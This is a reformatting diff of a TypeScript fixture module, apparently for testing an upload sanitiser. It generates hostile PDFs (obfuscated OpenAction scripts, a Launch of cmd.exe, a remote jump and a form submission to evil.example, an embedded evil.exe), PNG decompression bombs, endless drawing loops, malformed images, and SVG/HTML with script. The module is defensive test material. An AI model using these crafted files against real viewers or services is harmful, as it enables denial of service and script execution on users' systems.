@@ -10,7 +10,11 @@ const nearlyLargest = 4.9 * mega;
 const repeated = (line: string, size = nearlyLargest) => line.repeat(Math.floor(size / line.length));
 
 /** A whole PDF whose only page has these entries; further objects follow. Readers rebuild the table of objects, which is left out. */
-export function pdfOf({ catalog = '', page = '', objects = '' }: { catalog?: string; page?: string; objects?: string } = {}): Buffer {
+export function pdfOf({
+  catalog = '',
+  page = '',
+  objects = '',
+}: { catalog?: string; page?: string; objects?: string } = {}): Buffer {
   return latin(`%PDF-1.7
 1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj
 2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj
@@ -28,17 +32,37 @@ const packed = (type: string) => {
 /** PDFs that a reader might run: the name of each says where the action hides. */
 export const activePdfs: Readonly<Record<string, Buffer>> = {
   'a script': pdfOf({ catalog: `/OpenAction ${script}` }),
-  'a script between comments that look like a stream': pdfOf({ objects: `%stream\n7 0 obj\n${script}\nendobj\n%endstream`, catalog: '/OpenAction 7 0 R' }),
-  'a script in a table of objects whose type is written in codes': pdfOf({ objects: packed('/Type/Obj#53tm'), catalog: '/OpenAction 7 0 R' }),
-  'a script in a table of objects whose type is cut by a comment': pdfOf({ objects: packed('/Type%x\n/ObjStm'), catalog: '/OpenAction 7 0 R' }),
-  'a script whose name is written in codes': pdfOf({ catalog: '/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>' }),
-  'a jump to a network path': pdfOf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >>' }),
-  'a link': pdfOf({ page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (https://evil.example) >> >>]' }),
+  'a script between comments that look like a stream': pdfOf({
+    objects: `%stream\n7 0 obj\n${script}\nendobj\n%endstream`,
+    catalog: '/OpenAction 7 0 R',
+  }),
+  'a script in a table of objects whose type is written in codes': pdfOf({
+    objects: packed('/Type/Obj#53tm'),
+    catalog: '/OpenAction 7 0 R',
+  }),
+  'a script in a table of objects whose type is cut by a comment': pdfOf({
+    objects: packed('/Type%x\n/ObjStm'),
+    catalog: '/OpenAction 7 0 R',
+  }),
+  'a script whose name is written in codes': pdfOf({
+    catalog: '/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>',
+  }),
+  'a jump to a network path': pdfOf({
+    catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >>',
+  }),
+  'a link': pdfOf({
+    page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (https://evil.example) >> >>]',
+  }),
   'a program to start': pdfOf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
   'an embedded file': pdfOf({
-    catalog: '/Names << /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>] >> >>',
-    objects: '7 0 obj\n<< /Type /EmbeddedFile /Length 4 >>\nstream\nevil\nendstream\nendobj' }),
-  'a form that sends itself': pdfOf({ catalog: '/AcroForm << /Fields [] /XFA (evil) >> /AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>' }),
+    catalog:
+      '/Names << /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>] >> >>',
+    objects: '7 0 obj\n<< /Type /EmbeddedFile /Length 4 >>\nstream\nevil\nendstream\nendobj',
+  }),
+  'a form that sends itself': pdfOf({
+    catalog:
+      '/AcroForm << /Fields [] /XFA (evil) >> /AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>',
+  }),
 };
 
 /** Nothing of these may be left in what is stored. */
@@ -51,14 +75,20 @@ export const stubbornPdfs: Readonly<Record<string, Buffer>> = {
   'tables of objects that never end': latin(`%PDF-1.7\n${repeated('/Type /ObjStm ')}\n%%EOF\n`),
   'spaces after the end': latin(`%PDF-1.7\n%%EOF${repeated(' ')}x`),
   'opening brackets': latin(`%PDF-1.7\n1 0 obj\n${repeated('[<<')}\n%%EOF\n`),
-  'pages that are their own children': latin(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`),
-  'ten million pages': latin(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 10000000 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`),
+  'pages that are their own children': latin(
+    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
+  ),
+  'ten million pages': latin(
+    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 10000000 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
+  ),
   'nothing but its first bytes': latin('%PDF-1.7 hello'),
 };
 
 /** A drawing of a few kilobytes that asks for billions of strokes: only a deadline ends it. */
 export function endlessPdf(): Buffer {
-  const strokes = deflateSync(latin('0 0 m 300 200 l 0 200 l 300 0 l h B* '.repeat(4_000) + '/F Do '.repeat(64)));
+  const strokes = deflateSync(
+    latin('0 0 m 300 200 l 0 200 l 300 0 l h B* '.repeat(4_000) + '/F Do '.repeat(64)),
+  );
   const form = (number: number, next: number, more = '') => {
     const content = latin(`${more}${`/F Do `.repeat(64)}`).toString('latin1');
     return `${number} 0 obj\n<< /Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /XObject << /F ${next} 0 R >> >> /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`;
@@ -68,7 +98,8 @@ export function endlessPdf(): Buffer {
   const content = '/F Do';
   return pdfOf({
     page: '/Contents 9 0 R /Resources << /XObject << /F 10 0 R >> >>',
-    objects: `9 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n${forms}${last}` });
+    objects: `9 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n${forms}${last}`,
+  });
 }
 
 /** A PNG of black pixels, one bit each: small as a file, a pixel count no phone has. */
@@ -86,16 +117,35 @@ export function pngBomb(width: number, height: number): Buffer {
   header.writeUInt32BE(height, 4);
   header.set([1, 0, 0, 0, 0], 8);
   const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height);
-  return Buffer.concat([latin('\x89PNG\r\n\x1a\n'), chunk('IHDR', header), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    latin('\x89PNG\r\n\x1a\n'),
+    chunk('IHDR', header),
+    chunk('IDAT', deflateSync(rows)),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 /** What is no picture, or none that may be unpacked. */
 export const hostilePictures: Readonly<Record<string, Buffer>> = {
   'a bomb of 900 megapixels': pngBomb(30_000, 30_000),
   'a picture 200,000 pixels wide': pngBomb(200_000, 400),
-  'HTML behind the first bytes of a JPEG': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), latin('<html><script>alert(1)</script></html>')]),
-  'a JPEG of nothing but markers': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(nearlyLargest, 0xff)]),
-  'a WebP that promises more than it holds': Buffer.concat([latin('RIFF\xff\xff\xff\x7fWEBPVP8X'), Buffer.alloc(mega, 0xff)]),
-  'an AVIF of noise': Buffer.concat([latin('\x00\x00\x00\x20ftypavif\x00\x00\x00\x00avifmif1miaf'), Buffer.alloc(mega, 0x41)]),
-  'a drawing with a script': latin('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>'),
+  'HTML behind the first bytes of a JPEG': Buffer.concat([
+    Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
+    latin('<html><script>alert(1)</script></html>'),
+  ]),
+  'a JPEG of nothing but markers': Buffer.concat([
+    Buffer.from([0xff, 0xd8, 0xff]),
+    Buffer.alloc(nearlyLargest, 0xff),
+  ]),
+  'a WebP that promises more than it holds': Buffer.concat([
+    latin('RIFF\xff\xff\xff\x7fWEBPVP8X'),
+    Buffer.alloc(mega, 0xff),
+  ]),
+  'an AVIF of noise': Buffer.concat([
+    latin('\x00\x00\x00\x20ftypavif\x00\x00\x00\x00avifmif1miaf'),
+    Buffer.alloc(mega, 0x41),
+  ]),
+  'a drawing with a script': latin(
+    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>',
+  ),
 };
